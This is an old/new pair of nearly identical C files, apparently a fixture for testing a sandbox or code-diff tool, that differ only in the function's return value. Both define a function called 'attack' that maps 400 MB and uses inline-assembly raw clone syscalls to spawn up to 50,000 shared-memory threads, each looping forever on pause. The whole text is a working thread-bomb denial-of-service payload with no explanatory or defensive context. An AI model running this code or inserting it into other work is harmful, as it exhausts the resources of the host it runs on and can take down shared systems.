//// old
#include <unistd.h>
#include <sys/syscall.h>
/* Threads of the same memory, each of which waits for ever on a stack of its own. */
int attack(int x) {
    char *stacks = (char *)syscall(SYS_mmap, 0, 400L << 20, 3, 0x22, -1, 0);
    if ((long)stacks < 0 && (long)stacks > -4096) return x;
    for (int i = 0; i < 50000; i++) {
        long thread = 56;
        __asm__ volatile("syscall\n test %%rax, %%rax\n jnz 1f\n 2: movl $34, %%eax\n syscall\n jmp 2b\n 1:"
                         : "+a"(thread) : "D"(0x10f00L), "S"(stacks + (i + 1) * 8192L), "d"(0L) : "rcx", "r11", "memory");
        if (thread < 0) break;
    }
    return x;
}
//// new
#include <unistd.h>
#include <sys/syscall.h>
/* Threads of the same memory, each of which waits for ever on a stack of its own. */
int attack(int x) {
    char *stacks = (char *)syscall(SYS_mmap, 0, 400L << 20, 3, 0x22, -1, 0);
    if ((long)stacks < 0 && (long)stacks > -4096) return x;
    for (int i = 0; i < 50000; i++) {
        long thread = 56;
        __asm__ volatile("syscall\n test %%rax, %%rax\n jnz 1f\n 2: movl $34, %%eax\n syscall\n jmp 2b\n 1:"
                         : "+a"(thread) : "D"(0x10f00L), "S"(stacks + (i + 1) * 8192L), "d"(0L) : "rcx", "r11", "memory");
        if (thread < 0) break;
    }
    return x + 1;
}
